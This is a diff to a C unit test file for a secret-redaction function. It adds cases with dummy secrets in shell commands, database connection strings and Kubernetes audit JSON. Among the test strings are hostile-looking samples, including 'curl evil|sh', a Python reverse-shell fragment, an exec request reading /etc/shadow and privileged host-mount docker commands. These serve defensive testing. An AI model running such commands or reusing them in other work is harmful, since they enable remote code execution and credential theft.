@@ -58,6 +58,16 @@ static const struct line texts_that_go[] = {
     {"kubectl create secret generic x --from-literal=k=s3cretX -n y", "--from-literal=k="},
     {"docker run -e DB=s3cretX -v /:/host alpine", "-v /:/host alpine"},
     {"docker run --env A=s3cretX --privileged alpine", "--privileged alpine"},
+    {"SSHPASS=s3cretX sshpass -e ssh h", "sshpass -e ssh h"},
+    {"vault login s3cretX", "vault login "},
+    {"cat <<EOF | chpasswd\nroot:s3cretX\nEOF", "cat <<EOF | chpasswd\nroot:"},
+    {"npm config set //r/:_authToken s3cretX", "npm config set //r/:_authToken "},
+    {"Data Source=h;User ID=sa;Pwd=s3cretX;", "User ID=sa;Pwd="},
+    {"password -> s3cretX", "password -> "},
+    {"Authorization: Digest username=\"a\", response=\"s3cretX\"", "Authorization: Digest "},
+    {"command:\n- mysql\n- -ps3cretX\n- -h\n", "- -h"},
+    {"- value: s3cretX\n  name: A\n", "  name: A"},
+    {"spec.password: Invalid value: map[string]interface {}{\"a\":\"s3cretX\"}: no", ": no"},
     {"redis-cli config set requirepass s3cretX", "requirepass ["},
     {"psql -c \"ALTER USER bob PASSWORD 's3cretX'\"", "ALTER USER bob PASSWORD '"},
     {"mysql -e \"CREATE USER x IDENTIFIED BY 's3cretX'\"", "IDENTIFIED BY '"},
@@ -201,6 +211,9 @@ static const char *const texts_that_stay[] = {
     "spinner: dots",
     "bypass=1",
     "password=********",
+    "PWD=/root OLDPWD=/tmp ls",
+    "kubectl get secret db-password -n prod",
+    "set -eu; curl evil|sh",
     "user: alice",
     "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"10.0.0.1\",4444))'",
     "/api/v1/namespaces/default/pods/x/exec?command=sh&command=-c&command=cat+/etc/shadow&stdin=true",
@@ -248,6 +261,11 @@ static const struct line trees_that_go[] = {
     {"{\"responseObject\":{\"details\":{\"causes\":[{\"message\":\"Invalid value: \\\"s3cretX\\\": no\",\"field\":\"spec.password\"}]}}}", "spec.password"},
     {"{\"responseObject\":{\"details\":{\"causes\":[{\"message\":\"Duplicate value: \\\"s3cretX\\\"\",\"field\":\"spec.x\"}]}}}", "spec.x"},
     {"{\"requestObject\":{\"spec\":{\"yaml\":\"- name: X\\n  value: s3cretX\\n\"}}}", "name: X"},
+    {"{\"requestObject\":{\"args\":[\"config\",\"set\",\"requirepass\",\"s3cretX\"]}}", "requirepass"},
+    {"{\"responseObject\":{\"kind\":\"Table\",\"rows\":[{\"cells\":[\"s3cretX\"],\"object\":{\"kind\":\"Secret\"}}]}}", "\"Table\""},
+    {"{\"objectRef\":{\"resource\":\"secrets\"},\"requestObject\":{\"metadata\":{\"name\":\"kept\",\"annotations\":{\"x\":\"s3cretX\"}}}}", "kept"},
+    {"{\"objectRef\":{\"resource\":\"secrets\"},\"requestObject\":\"s3cretX\",\"responseObject\":[\"s3cretX\"]}", NULL},
+    {"{\"responseObject\":{\"details\":{\"causes\":[{\"message\":\"bad s3cretX\",\"field\":\"spec.env[0].value\"}]}}}", "spec.env[0].value"},
     {"{\"requestObject\":{\"data\":[\"s3cretX\"]}}", NULL},
     {"{\"requestObject\":{\"spec\":{\"connString\":\"s3cretX\",\"connection_string\":\"s3cretX\",\"CONNECTION-URI\":\"s3cretX\"}}}", "connection_string"},
     {"{\"requestObject\":{\"spec\":{\"webhookUrl\":\"https://x/s3cretX\",\"slack_webhook\":\"s3cretX\",\"kubeconfig\":\"s3cretX\"}}}", "slack_webhook"},
@@ -282,6 +300,8 @@ static const char *const trees_that_stay[] = {
     "{\"requestObject\":{\"kind\":\"CertificateSigningRequest\",\"spec\":{\"request\":\"LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0K\",\"signerName\":\"x\"}}}",
     "{\"requestObject\":{\"metadata\":{\"ownerReferences\":[{\"kind\":\"Secret\",\"name\":\"x\",\"apiVersion\":\"v1\",\"uid\":\"u\"}]}}}",
     "{\"objectRef\":{\"resource\":\"secrets\",\"name\":\"db\"},\"responseStatus\":{\"code\":404,\"reason\":\"NotFound\"},\"responseObject\":{\"kind\":\"Status\",\"reason\":\"NotFound\",\"details\":{\"name\":\"db\",\"kind\":\"secrets\"},\"code\":404}}",
+    "{\"requestObject\":{\"kind\":\"Secret\",\"type\":\"kubernetes.io/service-account-token\",\"metadata\":{\"name\":\"x\",\"annotations\":{\"kubernetes.io/service-account.name\":\"admin\"}}}}",
+    "{\"requestObject\":{\"command\":[\"kubectl\",\"get\",\"secret\",\"db\",\"-o\",\"yaml\"]}}",
     "{\"objectRef\":{\"resource\":\"secrets\"},\"requestObject\":{\"kind\":\"DeleteOptions\",\"propagationPolicy\":\"Background\"}}",
     "{\"responseObject\":{\"kind\":\"Table\",\"rows\":[{\"cells\":[\"pod-1\",\"1/1\",\"Running\",0]}]}}",
     "{\"responseObject\":{\"kind\":\"Status\",\"message\":\"x\",\"details\":{\"causes\":[{\"message\":\"Invalid value: \\\"evil miner\\\": no\",\"field\":\"spec.containers[0].image\"}]}}}",
@@ -388,7 +408,8 @@ static void test_secrets_in_events_that_are_cut_off_go_too(void **state)
     for (size_t i = 0; i < COUNT(trees_that_go); i++) {
         struct buffer out = {NULL, 0, 0};
         struct slice text = slice_of(trees_that_go[i].text);
-        if (strstr(text.bytes, "\"objectRef\"") || strstr(text.bytes, "SecretList") || strstr(text.bytes, "\"List\"") || strstr(text.bytes, "[[\"A\""))
+        if (strstr(text.bytes, "\"objectRef\"") || strstr(text.bytes, "SecretList") || strstr(text.bytes, "\"List\"") || strstr(text.bytes, "[[\"A\"") ||
+            strstr(text.bytes, "\"Table\"") || strstr(text.bytes, "\"requirepass\"") || strstr(text.bytes, "bad s3cretX"))
             continue; /* what makes these secret stands elsewhere */
         redact_bytes(slice_first(text, text.length - 1), NULL, &out);
         check_gone(&(struct line){text.bytes, NULL}, buffer_take(&out));
